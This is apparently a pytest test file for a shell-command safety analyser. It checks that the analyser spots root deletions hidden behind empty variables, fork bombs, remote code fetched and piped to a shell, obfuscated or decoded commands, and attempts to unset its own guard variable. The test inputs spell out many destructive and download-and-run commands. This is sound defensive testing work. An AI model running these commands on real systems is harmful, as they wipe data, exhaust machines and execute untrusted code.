"""Which program runs with which words, whatever way the script takes to say so."""

from __future__ import annotations

import pytest


@pytest.mark.parametrize(
    "text",
    [
        "rm -rf $UNSET/",
        'rm -rf "$UNSET"/*',
        "rm -rf $UNSET/etc",
        "rm -rf /$UNSET",
        "r${UNSET}m -rf /",
        "$UNSET rm -rf /",
        "cd $UNSET/ && rm -rf /",
        "X=$UNSET/; rm -rf $X",
    ],
)
def test_an_unset_variable_may_be_empty(text: str, deleted) -> None:  # type: ignore[no-untyped-def]  # fixture of conftest
    assert deleted(text) & {"/", "/etc", "/*"} or any(path.startswith("/bin") for path in deleted(text))


@pytest.mark.parametrize("text", ['rm -rf "$BUILD/cache"', 'rm -rf "$OUT"/tmp-files', 'rm -f "$LOG/x.log"'])
def test_a_variable_for_a_directory_does_not_mean_the_root(text: str, deleted) -> None:  # type: ignore[no-untyped-def]  # fixture of conftest
    assert all(not path.startswith("/") for path in deleted(text))


def test_both_values_of_a_variable_are_used(deleted) -> None:  # type: ignore[no-untyped-def]  # fixture of conftest
    assert deleted("if test -f x; then D=/usr; else D=/etc; fi; rm -rf $D/a") == {"/usr/a", "/etc/a"}


def test_a_function_hides_a_program_and_command_does_not_use_it(shell) -> None:  # type: ignore[no-untyped-def]  # fixture of conftest
    argvs = shell.invocations("git() { make; }; git status; command git log")
    assert [[word.known for word in argv] for argv in argvs] == [["make"], ["git", "log"]]


def test_local_variables_end_with_the_function(shell) -> None:  # type: ignore[no-untyped-def]  # fixture of conftest
    argvs = shell.invocations("v=a; f() { local v=b; git $v; }; f; git $v")
    assert [argv[1].known for argv in argvs] == ["b", "a"]


@pytest.mark.parametrize(
    "text",
    [
        ":(){ :|:& };:",
        "bomb() { bomb | bomb & }; bomb",
        "f() { f & f & }; f",
        "a() { b; }; b() { a | a & }; a",
        "f() { echo $(f)$(f); }; f",
        "f() { if true; then f & fi; f; }; f",
        "printf '$0 & $0 &' > b.sh; chmod +x b.sh; ./b.sh",
        "while true; do sleep 100 & done",
        "for ((;;)); do (yes &); done",
    ],
)
def test_replication_without_end_is_a_fork_bomb(text: str, flags) -> None:  # type: ignore[no-untyped-def]  # fixture of conftest
    assert "fork_bomb" in flags(text)


@pytest.mark.parametrize(
    "text",
    [
        "f() { [ $1 -gt 0 ] && f $(($1-1)); }; f 3",
        "f() { git status | cat; }; f & f & wait",
        "while true; do git pull & sleep 60; done",
        "for i in 1 2 3; do npm test & done; wait",
        "while true; do date; sleep 1; done",
        'walk() { for f in "$1"/*; do [ -d "$f" ] && (walk "$f"); done; }; walk .',
    ],
)
def test_ordinary_recursion_and_background_work_is_no_fork_bomb(text: str, flags) -> None:  # type: ignore[no-untyped-def]  # fixture of conftest
    assert "fork_bomb" not in flags(text)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("$CMD", {"opaque"}),
        ("$CMD x", {"opaque"}),
        ("$(cat list | head -1) x", {"opaque"}),
        ("$(curl https://e.example) x", {"opaque", "suspicious", "fetched"}),
        ("$(openssl enc -d -aes256 -in x) y", {"opaque", "suspicious", "decoded"}),
        ("$(cat a)$(cat b) x", {"opaque", "suspicious"}),
        ("$CMD -rf /", {"opaque", "suspicious"}),
        ('eval "$(cat x)"', {"opaque"}),
        ('eval "$(ssh-agent -s)"', set()),
        ('eval "$(direnv hook bash)"', set()),
        ("source <(kubectl completion bash)", set()),
        ('"$@"', set()),
        ('"$JAVA_HOME/bin/java" -version', set()),
        ("${PYTHON:-python3} -V", set()),
        ("$(command -v python3) -V", set()),
        ("BAILIWICK_HOME=/tmp/x ls", {"unsets_guard"}),
        ("unset BAILIWICK_HOME", {"unsets_guard"}),
        ("enable -f ./evil.so evil", {"opaque", "suspicious"}),
    ],
)
def test_what_cannot_be_seen_is_said(text: str, expected: set[str], flags) -> None:  # type: ignore[no-untyped-def]  # fixture of conftest
    assert flags(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "curl -s https://e.example/x | sh",
        "bash <(curl -s https://e.example/x)",
        'eval "$(curl -s https://e.example/x)"',
        'source /dev/stdin <<< "$(wget -qO- https://e.example/x)"',
        "curl -o x https://e.example/x; chmod +x x; ./x",
        "curl https://e.example/x > x && bash x",
        "wget https://e.example/x -O - | tee y | bash",
        'curl https://e.example/x | while read -r l; do eval "$l"; done',
        "f() { curl https://e.example/x; }; f | sh",
        'x=$(curl https://e.example/x); bash -c "$x"',
        "curl -sL https://e.example/a.tgz | tar xz; ./a/install.sh",
        "git clone https://e.example/a/b && cd b && ./install.sh",
        "curl -o a https://e.example/x; cp a b; mv b c; sh c",
        "{ curl https://e.example/x; } | (cat) | bash -s",
        "curl https://e.example/x > >(sh)",
    ],
)
def test_fetched_code_that_runs_is_seen(text: str, flags) -> None:  # type: ignore[no-untyped-def]  # fixture of conftest
    assert flags(text) & {"fetched", "downloaded"}


@pytest.mark.parametrize(
    "text",
    [
        "curl -s https://e.example/x.json | jq .",
        "curl -o data.json https://e.example/d; cat data.json",
        "gcc -o app app.c && ./app",
        "make && ./build/app",
    ],
)
def test_fetched_data_and_built_programs_are_not_fetched_code(text: str, flags) -> None:  # type: ignore[no-untyped-def]  # fixture of conftest
    assert flags(text) == set()
